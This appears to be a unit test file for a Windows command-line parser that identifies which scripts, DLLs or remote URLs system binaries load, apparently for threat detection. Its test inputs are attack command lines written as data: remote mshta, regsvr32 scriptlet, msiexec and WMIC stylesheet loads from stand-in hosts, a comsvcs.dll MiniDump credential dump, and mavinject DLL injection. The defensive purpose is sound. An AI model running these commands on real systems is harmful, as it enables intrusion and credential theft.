import { describe, expect, it } from 'vitest';
import { hostedTargets, resolvePath, splitCommandLine, targetNames } from './command-line.js';

describe('splitCommandLine', () => {
  it('follows CommandLineToArgvW quoting', () => {
    expect(splitCommandLine('"C:\\Program Files\\a.exe" /x "b c" d')).toEqual(['C:\\Program Files\\a.exe', '/x', 'b c', 'd']);
    expect(splitCommandLine('a \\"b\\" "c\\\\" d')).toEqual(['a', '"b"', 'c\\', 'd']);
    expect(splitCommandLine('a "x""y" b')).toEqual(['a', 'x"y', 'b']);
    expect(splitCommandLine('  a\t\tb  ')).toEqual(['a', 'b']);
    expect(splitCommandLine('a ""')).toEqual(['a', '']);
  });
});

describe('resolvePath', () => {
  it('joins relative paths to the cwd and folds dots', () => {
    expect(resolvePath('x.vbs', 'C:\\Users\\a\\Downloads\\')).toBe('C:\\Users\\a\\Downloads\\x.vbs');
    expect(resolvePath('..\\x.dll', 'C:\\Users\\a\\Downloads')).toBe('C:\\Users\\a\\x.dll');
    expect(resolvePath('.\\x.dll', 'C:\\tmp\\')).toBe('C:\\tmp\\x.dll');
    expect(resolvePath('\\x.dll', 'D:\\tmp\\')).toBe('D:\\x.dll');
    expect(resolvePath('C:\\a\\b.dll', 'D:\\')).toBe('C:\\a\\b.dll');
    expect(resolvePath('http://evil.example/a.hta', 'C:\\')).toBe('http://evil.example/a.hta');
    expect(resolvePath('x.vbs', undefined)).toBe('x.vbs');
  });
});

describe('hostedTargets', () => {
  const cwd = 'C:\\Users\\bob\\Downloads\\';
  it('script hosts', () => {
    expect(hostedTargets('C:\\Windows\\System32\\wscript.exe', '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\Downloads\\inv.vbs" ', cwd)).toEqual([{ path: 'C:\\Users\\bob\\Downloads\\inv.vbs', how: 'script' }]);
    expect(hostedTargets('C:\\Windows\\System32\\cscript.exe', 'cscript //nologo //E:jscript a.js', cwd)).toEqual([{ path: `${cwd}a.js`, how: 'script' }]);
    expect(hostedTargets('C:\\Windows\\System32\\mshta.exe', 'mshta.exe http://x.example/p.hta', cwd)).toEqual([{ path: 'http://x.example/p.hta', how: 'hta' }]);
    expect(hostedTargets('C:\\Windows\\System32\\mshta.exe', 'mshta vbscript:Execute("x")', cwd)).toEqual([]);
    expect(hostedTargets('C:\\Windows\\System32\\hh.exe', 'hh.exe C:\\Users\\bob\\doc.chm', cwd)).toEqual([{ path: 'C:\\Users\\bob\\doc.chm', how: 'help' }]);
  });
  it('rundll32 and regsvr32', () => {
    expect(hostedTargets('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe "C:\\ProgramData\\a b.dll",DllMain 1', cwd)).toEqual([{ path: 'C:\\ProgramData\\a b.dll', how: 'dll' }]);
    expect(hostedTargets('C:\\Windows\\System32\\rundll32.exe', 'rundll32 payload,#1', cwd)).toEqual([{ path: `${cwd}payload.dll`, how: 'dll' }]);
    expect(hostedTargets('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full', cwd)).toEqual([
      { path: 'C:\\windows\\System32\\comsvcs.dll', how: 'dll' },
    ]);
    expect(hostedTargets('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32.exe /s /n /u /i:http://x.example/a.sct scrobj.dll', cwd)).toEqual([{ path: 'http://x.example/a.sct', how: 'scriptlet' }]);
    expect(hostedTargets('C:\\Windows\\SysWOW64\\regsvr32.exe', 'regsvr32 /s evil.ocx', cwd)).toEqual([{ path: `${cwd}evil.ocx`, how: 'dll' }]);
  });
  it('powershell', () => {
    expect(hostedTargets('C:\\x\\powershell.exe', 'powershell.exe -NoP -ExecutionPolicy Bypass -File .\\run.ps1 -arg 1', cwd)).toEqual([{ path: `${cwd}run.ps1`, how: 'script' }]);
    expect(hostedTargets('C:\\x\\powershell.exe', 'powershell -ep bypass C:\\t\\a.ps1', cwd)).toEqual([{ path: 'C:\\t\\a.ps1', how: 'script' }]);
    expect(hostedTargets('C:\\x\\powershell.exe', 'powershell -c "& \'C:\\t\\b.ps1\'"', cwd)).toEqual([{ path: 'C:\\t\\b.ps1', how: 'script' }]);
    expect(hostedTargets('C:\\x\\powershell.exe', 'powershell -enc SQBFAFgA', cwd)).toEqual([]);
  });
  it('cmd, msiexec and the .NET loaders', () => {
    expect(hostedTargets('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c "C:\\t\\go.bat arg"', cwd)).toEqual([{ path: 'C:\\t\\go.bat', how: 'script' }]);
    expect(hostedTargets('C:\\Windows\\System32\\cmd.exe', 'cmd /c start /b x.vbs', cwd)).toEqual([{ path: `${cwd}x.vbs`, how: 'opened' }]);
    expect(hostedTargets('C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami', cwd)).toEqual([]);
    expect(hostedTargets('C:\\Windows\\System32\\msiexec.exe', 'msiexec /q /i http://x.example/a.msi', cwd)).toEqual([{ path: 'http://x.example/a.msi', how: 'package' }]);
    expect(hostedTargets('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\t\\g.dll', cwd)).toEqual([
      { path: 'C:\\t\\g.dll', how: 'assembly' },
    ]);
    expect(hostedTargets('C:\\Windows\\System32\\mavinject.exe', 'mavinject.exe 3540 /INJECTRUNNING C:\\t\\i.dll', cwd)).toEqual([{ path: 'C:\\t\\i.dll', how: 'dll' }]);
    expect(hostedTargets('C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic os get /format:"https://x.example/a.xsl"', cwd)).toEqual([{ path: 'https://x.example/a.xsl', how: 'stylesheet' }]);
  });
  it('ignores ordinary programs that merely name a file', () => {
    expect(hostedTargets('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\t\\a.vbs', cwd)).toEqual([]);
  });
});

describe('targetNames', () => {
  it('compares full paths, or names when the target stayed relative', () => {
    expect(targetNames('C:\\T\\A.DLL', 'c:\\t\\a.dll')).toBe(true);
    expect(targetNames('C:\\u\\a.dll', 'c:\\t\\a.dll')).toBe(false);
    expect(targetNames('a.dll', 'c:\\t\\a.dll')).toBe(true);
  });
});
